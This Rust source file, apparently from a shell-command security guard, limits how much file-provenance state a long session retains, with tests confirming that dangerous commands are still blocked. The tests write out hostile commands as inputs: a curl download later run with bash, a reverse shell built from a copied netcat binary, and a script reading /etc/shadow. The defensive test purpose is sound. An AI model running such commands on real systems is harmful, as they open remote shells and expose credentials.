//! Sessions of which nobody knows how long they last: what says least about later commands is forgotten first.
//!
//! A fact says something if text of the file is known, if it comes from outside, or if it is a copy of one of the system's
//! or somebody's own files. Others (an object file, a log, an archive of a project) are forgotten after a while.

use aegish_guard::Session;
use aegish_shell_state::{FileFact, ShellState};
use aegish_values::{Piece, Source, Value};
use std::collections::HashSet;
use std::hash::{BuildHasher as _, RandomState};

/// Commands after which a session forgets what is older.
const ROUND: u32 = 512;
/// Facts of a kind that a session keeps because they say something.
const MOST: usize = 4096;

/// A session that does not grow with the number of its commands.
#[derive(Debug, Default)]
pub(crate) struct HeldSession {
    pub(crate) session: Session,
    /// Commands since the last round.
    commands: u32,
    /// The facts of the last round.
    aged: HashSet<u64>,
    keys: RandomState,
}

impl HeldSession {
    /// After a command. Returns the number of facts that said something and were forgotten.
    pub(crate) fn after_command(&mut self) -> u64 {
        self.commands += 1;
        if self.commands < ROUND {
            return 0;
        }
        self.commands = 0;
        let Some(state) = self.session.state() else { return 0 };
        let (state, lost) = self.forget(state);
        self.aged = state.files.iter().map(|(path, fact)| self.mark(path, fact)).collect();
        self.session = Session::after(state);
        lost as u64
    }

    fn forget(&self, mut state: ShellState) -> (ShellState, usize) {
        let aged = |path: &str, fact: &FileFact| self.aged.contains(&self.mark(path, fact));
        let tells = |content: &Value| has_known(content) || comes_from(content, counts);
        state.files.retain(|path, fact| fact.fifo || tells(&fact.content) || !aged(path, fact));
        state.replaced.retain(|_, content| tells(content));
        let mut lost = 0;
        if state.files.len() > MOST {
            lost += state.files.len();
            let outside = |content: &Value| comes_from(content, |_| false);
            state.files.retain(|path, fact| outside(&fact.content) || !aged(path, fact));
            if state.files.len() > MOST {
                state.files.retain(|path, fact| !aged(path, fact));
            }
            lost -= state.files.len();
        }
        if state.replaced.len() > MOST {
            lost += std::mem::take(&mut state.replaced).len();
        }
        // Without it later commands are judged more strictly.
        if state.made.len() > MOST {
            state.made = Default::default();
        }
        (state, lost)
    }

    /// Two facts with the same mark are the same: one that was written again is at another place.
    fn mark(&self, path: &str, fact: &FileFact) -> u64 {
        self.keys.hash_one((path, std::ptr::from_ref(fact).addr()))
    }
}

fn has_known(content: &Value) -> bool {
    content.pieces().iter().any(|piece| matches!(piece, Piece::Text(_) | Piece::OneOf(_)))
}

/// Whether content comes from outside, or from a file that counts.
fn comes_from(content: &Value, counts: fn(&str) -> bool) -> bool {
    content.taint().sources().any(|source| match source {
        Source::File(path) => counts(path),
        Source::Program(_) => false,
        Source::Network(_)
        | Source::Verified(_)
        | Source::Checkout(_)
        | Source::Environment(_)
        | Source::FilteredEnvironment(_)
        | Source::Terminal => true,
    })
}

/// Whether a copy of this file says something: it is the system's or somebody's own, or nobody knows which one it is.
fn counts(path: &str) -> bool {
    const PLACES: [&str; 15] = [
        "bin", "boot", "dev", "etc", "home", "lib", "lib64", "opt", "proc", "root", "run", "sbin",
        "sys", "usr", "var",
    ];
    let place = path.strip_prefix('/').and_then(|rest| rest.split('/').next());
    place.is_some_and(|place| PLACES.contains(&place))
        || path.contains('‹')
        || path.starts_with('~')
}

#[cfg(test)]
mod tests {
    use super::{HeldSession, MOST, ROUND};
    use aegish_guard::{Action, FailMode, Role, Surroundings};
    use aegish_verdict::{CheckInput, Checker, MachineView};

    struct Judged {
        checker: Checker,
        held: HeldSession,
        lost: u64,
        /// The largest number of facts so far.
        most: usize,
    }

    impl Judged {
        fn new() -> Self {
            let checker = Checker {
                role: Role::Default,
                fail_mode: FailMode::Open,
                user_rules: Vec::new(),
                surroundings: Surroundings { cwd: "/srv".into(), ..Surroundings::default() },
                machine: MachineView::Other,
            };
            Self { checker, held: HeldSession::default(), lost: 0, most: 0 }
        }

        fn judge(&mut self, text: &str) -> Action {
            let decision =
                self.checker.check_ran(&mut self.held.session, &CheckInput::command(text));
            self.lost += self.held.after_command();
            self.most = self.most.max(self.held.session.files().count());
            decision.action()
        }
    }

    #[test]
    fn a_long_session_keeps_what_says_something_and_does_not_grow() {
        let mut judged = Judged::new();
        judged.judge("curl -so tool https://example.org/x");
        judged.judge("cp /usr/bin/nc worker");
        judged.judge("printf 'cat /etc/shadow' > later.sh");
        for number in 0..5000 {
            judged.judge(&format!("gcc -c a.c -o {number}.o"));
        }
        assert!(judged.most < 3 * ROUND as usize, "{}", judged.most);
        assert_eq!(judged.judge("bash tool"), Action::Block);
        assert_eq!(judged.judge("bash later.sh"), Action::Block);
        assert_eq!(judged.judge("./worker -e /bin/sh 192.0.2.1 9"), Action::Block);
        assert_eq!(judged.lost, 0);
    }

    #[test]
    fn of_too_many_facts_the_newest_stay() {
        let mut judged = Judged::new();
        for number in 0..7000 {
            judged.judge(&format!("curl -so {number} https://example.org/x"));
        }
        assert!(judged.most <= MOST + 2 * ROUND as usize, "{}", judged.most);
        assert!(judged.lost > 1000, "{}", judged.lost);
        assert_eq!(judged.judge("bash 6900"), Action::Block);
    }

    #[test]
    fn what_was_written_again_is_new() {
        let mut judged = Judged::new();
        for round in 0..8 {
            judged.judge("gcc -c a.c -o a.o");
            for _ in 1..ROUND {
                judged.judge("true");
            }
            assert_eq!(judged.held.session.files().count(), 1, "{round}");
        }
        for _ in 0..2 * ROUND {
            judged.judge("true");
        }
        assert_eq!(judged.held.session.files().count(), 0);
    }
}
